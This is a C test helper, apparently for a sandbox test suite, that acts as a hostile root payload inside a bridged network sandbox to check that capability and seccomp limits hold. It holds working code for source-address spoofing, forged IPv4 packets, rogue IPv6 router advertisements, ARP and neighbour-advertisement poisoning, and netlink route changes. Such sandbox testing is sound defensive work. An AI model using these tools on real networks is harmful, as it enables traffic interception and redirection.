/* SPDX-License-Identifier: GPL-2.0-or-later */
/* A hostile payload's network tools for test_network_attacks.py: what a root payload with the
 * default capabilities (no CAP_NET_ADMIN, no CAP_NET_RAW) and the default seccomp profile can
 * try from inside a Network=bridge sandbox. Each subcommand prints one line saying what
 * happened (never fails silently), so a test can read the outcome from the unit's log or from
 * nsenter's output.
 *
 *   udp-send SRC SPORT DST DPORT TEXT [WAIT_MS]   one datagram from SRC:SPORT (IP_FREEBIND, so
 *                                                 SRC need not be ours); with WAIT_MS, waits
 *                                                 for an answer and prints it
 *   tcp-connect SRC DST DPORT [WAIT_MS]           connect() from SRC (IP_FREEBIND), prints the
 *                                                 result and the first line of the answer
 *   raw-udp4 SRC DST DPORT TEXT                   one datagram with a forged IPv4 header (needs
 *                                                 CAP_NET_RAW)
 *   ra                                            a router advertisement on eth0 (needs
 *                                                 CAP_NET_RAW): default route and prefix
 *                                                 2001:db8:bad::/64 to whoever believes it
 *   arp-reply IP [MAC]                            a broadcast ARP reply on eth0 claiming IP for
 *                                                 MAC (default eth0's) (needs CAP_NET_RAW)
 *   na IP6 [MAC]                                  an unsolicited neighbour advertisement to
 *                                                 ff02::1 claiming IP6 for MAC, override set
 *                                                 (needs CAP_NET_RAW)
 *   raw                                           AF_PACKET and SOCK_RAW sockets: errno
 *   netadmin                                      eth0's MTU and address by ioctl, a route, a
 *                                                 neighbour and an address by rtnetlink
 */

#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/neighbour.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef IPV6_FREEBIND
#define IPV6_FREEBIND 78
#endif

static int parse_sockaddr(const char *host, unsigned port, struct sockaddr_storage *ss,
                          socklen_t *len) {
    memset(ss, 0, sizeof *ss);
    struct sockaddr_in *s4 = (struct sockaddr_in *)ss;
    struct sockaddr_in6 *s6 = (struct sockaddr_in6 *)ss;
    if (inet_pton(AF_INET, host, &s4->sin_addr) == 1) {
        s4->sin_family = AF_INET;
        s4->sin_port = htons((uint16_t)port);
        *len = sizeof *s4;
        return AF_INET;
    }
    if (inet_pton(AF_INET6, host, &s6->sin6_addr) == 1) {
        s6->sin6_family = AF_INET6;
        s6->sin6_port = htons((uint16_t)port);
        *len = sizeof *s6;
        return AF_INET6;
    }
    fprintf(stderr, "bad address %s\n", host);
    exit(2);
}

/* A socket of type bound to src:sport with the family's FREEBIND (no capability needed). */
static int freebind_socket(int type, const char *src, unsigned sport, int *family) {
    struct sockaddr_storage ss;
    socklen_t len;
    int one = 1;
    *family = parse_sockaddr(src, sport, &ss, &len);
    int fd = socket(*family, type | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        printf("socket: %s\n", strerror(errno));
        exit(1);
    }
    (void)setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (*family == AF_INET)
        (void)setsockopt(fd, IPPROTO_IP, IP_FREEBIND, &one, sizeof one);
    else
        (void)setsockopt(fd, IPPROTO_IPV6, IPV6_FREEBIND, &one, sizeof one);
    if (bind(fd, (struct sockaddr *)&ss, len) < 0) {
        printf("bind %s:%u: %s\n", src, sport, strerror(errno));
        exit(1);
    }
    return fd;
}

static int cmd_udp_send(int argc, char **argv) {
    if (argc < 6)
        return 2;
    int family;
    int fd = freebind_socket(SOCK_DGRAM, argv[1], (unsigned)atoi(argv[2]), &family);
    struct sockaddr_storage dst;
    socklen_t len;
    parse_sockaddr(argv[3], (unsigned)atoi(argv[4]), &dst, &len);
    if (sendto(fd, argv[5], strlen(argv[5]), 0, (struct sockaddr *)&dst, len) < 0) {
        printf("sendto: %s\n", strerror(errno));
        return 1;
    }
    if (argc < 7) {
        printf("sent\n");
        return 0;
    }
    struct pollfd p = {fd, POLLIN, 0};
    if (poll(&p, 1, atoi(argv[6])) <= 0) {
        printf("sent, no answer\n");
        return 0;
    }
    char buf[512];
    ssize_t n = recv(fd, buf, sizeof buf - 1, 0);
    if (n < 0) {
        printf("sent, recv: %s\n", strerror(errno));
        return 0;
    }
    buf[n] = 0;
    printf("answer: %s\n", buf);
    return 0;
}

static int cmd_tcp_connect(int argc, char **argv) {
    if (argc < 4)
        return 2;
    int family, wait_ms = argc > 4 ? atoi(argv[4]) : 2000;
    int fd = freebind_socket(SOCK_STREAM, argv[1], 0, &family);
    struct sockaddr_storage dst;
    socklen_t len;
    parse_sockaddr(argv[2], (unsigned)atoi(argv[3]), &dst, &len);
    struct timeval tv = {wait_ms / 1000, (wait_ms % 1000) * 1000};
    (void)setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    (void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    if (connect(fd, (struct sockaddr *)&dst, len) < 0) {
        printf("connect: %s\n", strerror(errno));
        return 0;
    }
    char buf[256];
    ssize_t n = recv(fd, buf, sizeof buf - 1, 0);
    buf[n > 0 ? n : 0] = 0;
    printf("connected: %s\n", buf);
    return 0;
}

static uint16_t csum(const void *data, size_t len, uint32_t sum) {
    const uint8_t *b = data;
    for (size_t i = 0; i + 1 < len; i += 2)
        sum += (uint32_t)(b[i] << 8 | b[i + 1]);
    if (len % 2)
        sum += (uint32_t)(b[len - 1] << 8);
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static int cmd_raw_udp4(int argc, char **argv) {
    if (argc < 5)
        return 2;
    struct in_addr src, dst;
    if (inet_pton(AF_INET, argv[1], &src) != 1 || inet_pton(AF_INET, argv[2], &dst) != 1)
        return 2;
    size_t tlen = strlen(argv[4]);
    if (tlen > 512)
        return 2;
    uint8_t pkt[20 + 8 + 512] = {}, pseudo[12 + 8 + 512] = {};
    size_t ulen = 8 + tlen;
    uint8_t *ip = pkt, *udp = pkt + 20;
    ip[0] = 0x45;
    ip[2] = (uint8_t)((20 + ulen) >> 8);
    ip[3] = (uint8_t)(20 + ulen);
    ip[8] = 64;
    ip[9] = IPPROTO_UDP;
    memcpy(ip + 12, &src, 4);
    memcpy(ip + 16, &dst, 4);
    uint16_t c = csum(ip, 20, 0);
    ip[10] = (uint8_t)(c >> 8);
    ip[11] = (uint8_t)c;
    uint16_t sport = 5555, dport = (uint16_t)atoi(argv[3]);
    udp[0] = (uint8_t)(sport >> 8);
    udp[1] = (uint8_t)sport;
    udp[2] = (uint8_t)(dport >> 8);
    udp[3] = (uint8_t)dport;
    udp[4] = (uint8_t)(ulen >> 8);
    udp[5] = (uint8_t)ulen;
    memcpy(udp + 8, argv[4], tlen);
    memcpy(pseudo, &src, 4);
    memcpy(pseudo + 4, &dst, 4);
    pseudo[9] = IPPROTO_UDP;
    pseudo[10] = (uint8_t)(ulen >> 8);
    pseudo[11] = (uint8_t)ulen;
    memcpy(pseudo + 12, udp, ulen);
    c = csum(pseudo, 12 + ulen, 0);
    udp[6] = (uint8_t)(c >> 8);
    udp[7] = (uint8_t)c;
    int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (fd < 0) {
        printf("raw socket: %s\n", strerror(errno));
        return 1;
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
    if (sendto(fd, pkt, 20 + ulen, 0, (struct sockaddr *)&to, sizeof to) < 0) {
        printf("sendto: %s\n", strerror(errno));
        return 1;
    }
    printf("sent\n");
    return 0;
}

static int cmd_ra(void) {
    int fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6), hops = 255;
    if (fd < 0) {
        printf("raw6 socket: %s\n", strerror(errno));
        return 1;
    }
    (void)setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
    /* type 134, router lifetime 1800 s; a prefix option: on-link, autonomous, 64 bits */
    uint8_t ra[16 + 32] = {134, 0, 0, 0, 64, 0, 0x07, 0x08};
    uint8_t *pi = ra + 16;
    pi[0] = 3, pi[1] = 4, pi[2] = 64, pi[3] = 0xc0;
    memset(pi + 4, 0xff, 8); /* valid and preferred lifetimes: forever */
    inet_pton(AF_INET6, "2001:db8:bad::", pi + 16);
    struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_scope_id = if_nametoindex("eth0")};
    inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
    if (sendto(fd, ra, sizeof ra, 0, (struct sockaddr *)&to, sizeof to) < 0) {
        printf("sendto: %s\n", strerror(errno));
        return 1;
    }
    printf("RA sent\n");
    return 0;
}

static int eth0_mac(int fd, unsigned char mac[6]) {
    struct ifreq ifr = {};
    strcpy(ifr.ifr_name, "eth0");
    if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0)
        return -1;
    memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
    return 0;
}

static int parse_mac(const char *s, unsigned char mac[6]) {
    unsigned m[6];
    if (sscanf(s, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
        return -1;
    for (int i = 0; i < 6; i++)
        mac[i] = (unsigned char)m[i];
    return 0;
}

static int cmd_arp_reply(int argc, char **argv) {
    struct in_addr ip;
    if (argc < 2 || inet_pton(AF_INET, argv[1], &ip) != 1)
        return 2;
    int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ARP));
    if (fd < 0) {
        printf("packet socket: %s\n", strerror(errno));
        return 1;
    }
    unsigned char own[6], sha[6];
    if (eth0_mac(fd, own) < 0 || (argc > 2 ? parse_mac(argv[2], sha) : eth0_mac(fd, sha)) < 0)
        return 2;
    /* Ethernet: broadcast from eth0's own MAC; ARP reply: sender IP . MAC, target the same
     * IP (gratuitous), so every neighbour with an entry for IP takes MAC */
    uint8_t f[42] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
    memcpy(f + 6, own, 6);
    f[12] = 0x08, f[13] = 0x06;
    uint8_t *a = f + 14;
    a[1] = 1, a[2] = 0x08, a[4] = 6, a[5] = 4, a[7] = 2;
    memcpy(a + 8, sha, 6);
    memcpy(a + 14, &ip, 4);
    memset(a + 18, 0xff, 6);
    memcpy(a + 24, &ip, 4);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex("eth0"),
                             .sll_halen = 6};
    memset(to.sll_addr, 0xff, 6);
    if (sendto(fd, f, sizeof f, 0, (struct sockaddr *)&to, sizeof to) < 0) {
        printf("sendto: %s\n", strerror(errno));
        return 1;
    }
    printf("sent\n");
    return 0;
}

static int cmd_na(int argc, char **argv) {
    struct in6_addr target;
    if (argc < 2 || inet_pton(AF_INET6, argv[1], &target) != 1)
        return 2;
    int fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6), hops = 255;
    if (fd < 0) {
        printf("raw6 socket: %s\n", strerror(errno));
        return 1;
    }
    unsigned char mac[6];
    if ((argc > 2 ? parse_mac(argv[2], mac) : eth0_mac(fd, mac)) < 0)
        return 2;
    (void)setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
    /* type 136, flags override; the target; option 2: target link-layer address */
    uint8_t na[24 + 8] = {136, 0, 0, 0, 0x20};
    memcpy(na + 8, &target, 16);
    na[24] = 2, na[25] = 1;
    memcpy(na + 26, mac, 6);
    struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_scope_id = if_nametoindex("eth0")};
    inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
    if (sendto(fd, na, sizeof na, 0, (struct sockaddr *)&to, sizeof to) < 0) {
        printf("sendto: %s\n", strerror(errno));
        return 1;
    }
    printf("sent\n");
    return 0;
}

static int cmd_raw(void) {
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    printf("packet: %s\n", fd < 0 ? strerror(errno) : "opened");
    fd = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
    printf("raw4: %s\n", fd < 0 ? strerror(errno) : "opened");
    fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
    printf("raw6: %s\n", fd < 0 ? strerror(errno) : "opened");
    fd = socket(AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6);
    printf("ping6: %s\n", fd < 0 ? strerror(errno) : "opened");
    return 0;
}

/* One rtnetlink request, its ACK's errno. */
static int rtnl_request(struct nlmsghdr *h) {
    int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
    if (fd < 0)
        return -errno;
    struct sockaddr_nl k = {.nl_family = AF_NETLINK};
    h->nlmsg_flags |= NLM_F_REQUEST | NLM_F_ACK;
    h->nlmsg_seq = 1;
    if (sendto(fd, h, h->nlmsg_len, 0, (struct sockaddr *)&k, sizeof k) < 0)
        return -errno;
    char buf[4096];
    ssize_t n = recv(fd, buf, sizeof buf, 0);
    close(fd);
    if (n < 0)
        return -errno;
    struct nlmsghdr *a = (struct nlmsghdr *)buf;
    if (a->nlmsg_type != NLMSG_ERROR)
        return -EBADMSG;
    return ((struct nlmsgerr *)NLMSG_DATA(a))->error;
}

static void rta_put(struct nlmsghdr *h, unsigned short type, const void *data, size_t len) {
    struct rtattr *rta = (struct rtattr *)((char *)h + NLMSG_ALIGN(h->nlmsg_len));
    rta->rta_type = type;
    rta->rta_len = (unsigned short)RTA_LENGTH(len);
    memcpy(RTA_DATA(rta), data, len);
    h->nlmsg_len = NLMSG_ALIGN(h->nlmsg_len) + RTA_ALIGN(rta->rta_len);
}

static const char *err(int r) {
    return r == 0 ? "done" : strerror(-r);
}

static int cmd_netadmin(void) {
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct ifreq ifr = {};
    unsigned ifindex = if_nametoindex("eth0");
    strcpy(ifr.ifr_name, "eth0");
    ifr.ifr_mtu = 1280;
    printf("ioctl mtu: %s\n", ioctl(fd, SIOCSIFMTU, &ifr) < 0 ? strerror(errno) : "done");
    struct sockaddr_in *sin = (struct sockaddr_in *)&ifr.ifr_addr;
    sin->sin_family = AF_INET;
    inet_pton(AF_INET, "10.88.0.1", &sin->sin_addr);
    printf("ioctl addr: %s\n", ioctl(fd, SIOCSIFADDR, &ifr) < 0 ? strerror(errno) : "done");

    char buf[512] __attribute__((aligned(NLMSG_ALIGNTO)));
    struct nlmsghdr *h = (struct nlmsghdr *)buf;
    struct in_addr a;

    memset(buf, 0, sizeof buf);
    h->nlmsg_len = NLMSG_LENGTH(sizeof(struct ifaddrmsg));
    h->nlmsg_type = RTM_NEWADDR;
    h->nlmsg_flags = NLM_F_CREATE | NLM_F_EXCL;
    struct ifaddrmsg *ifa = NLMSG_DATA(h);
    ifa->ifa_family = AF_INET;
    ifa->ifa_prefixlen = 16;
    ifa->ifa_index = ifindex;
    inet_pton(AF_INET, "10.88.0.1", &a);
    rta_put(h, IFA_LOCAL, &a, 4);
    rta_put(h, IFA_ADDRESS, &a, 4);
    printf("rtnl addr: %s\n", err(rtnl_request(h)));

    memset(buf, 0, sizeof buf);
    h->nlmsg_len = NLMSG_LENGTH(sizeof(struct rtmsg));
    h->nlmsg_type = RTM_NEWROUTE;
    h->nlmsg_flags = NLM_F_CREATE | NLM_F_EXCL;
    struct rtmsg *rtm = NLMSG_DATA(h);
    rtm->rtm_family = AF_INET;
    rtm->rtm_dst_len = 24;
    rtm->rtm_table = RT_TABLE_MAIN;
    rtm->rtm_protocol = RTPROT_STATIC;
    rtm->rtm_scope = RT_SCOPE_LINK;
    rtm->rtm_type = RTN_UNICAST;
    inet_pton(AF_INET, "192.0.2.0", &a);
    rta_put(h, RTA_DST, &a, 4);
    rta_put(h, RTA_OIF, &ifindex, 4);
    printf("rtnl route: %s\n", err(rtnl_request(h)));

    memset(buf, 0, sizeof buf);
    h->nlmsg_len = NLMSG_LENGTH(sizeof(struct ndmsg));
    h->nlmsg_type = RTM_NEWNEIGH;
    h->nlmsg_flags = NLM_F_CREATE | NLM_F_REPLACE;
    struct ndmsg *nd = NLMSG_DATA(h);
    nd->ndm_family = AF_INET;
    nd->ndm_ifindex = (int)ifindex;
    nd->ndm_state = NUD_PERMANENT;
    inet_pton(AF_INET, "10.88.0.1", &a);
    rta_put(h, NDA_DST, &a, 4);
    unsigned char mac[6] = {0x02, 0, 0, 0, 0, 1};
    rta_put(h, NDA_LLADDR, mac, 6);
    printf("rtnl neigh: %s\n", err(rtnl_request(h)));

    memset(buf, 0, sizeof buf);
    h->nlmsg_len = NLMSG_LENGTH(sizeof(struct ifinfomsg));
    h->nlmsg_type = RTM_NEWLINK;
    struct ifinfomsg *ifm = NLMSG_DATA(h);
    ifm->ifi_family = AF_UNSPEC;
    ifm->ifi_index = (int)ifindex;
    unsigned char lladdr[6] = {0x02, 0x42, 0, 0, 0, 1};
    rta_put(h, IFLA_ADDRESS, lladdr, 6);
    printf("rtnl lladdr: %s\n", err(rtnl_request(h)));
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2)
        return 2;
    if (!strcmp(argv[1], "udp-send"))
        return cmd_udp_send(argc - 1, argv + 1);
    if (!strcmp(argv[1], "tcp-connect"))
        return cmd_tcp_connect(argc - 1, argv + 1);
    if (!strcmp(argv[1], "raw-udp4"))
        return cmd_raw_udp4(argc - 1, argv + 1);
    if (!strcmp(argv[1], "ra"))
        return cmd_ra();
    if (!strcmp(argv[1], "arp-reply"))
        return cmd_arp_reply(argc - 1, argv + 1);
    if (!strcmp(argv[1], "na"))
        return cmd_na(argc - 1, argv + 1);
    if (!strcmp(argv[1], "raw"))
        return cmd_raw();
    if (!strcmp(argv[1], "netadmin"))
        return cmd_netadmin();
    fprintf(stderr, "unknown command %s\n", argv[1]);
    return 2;
}
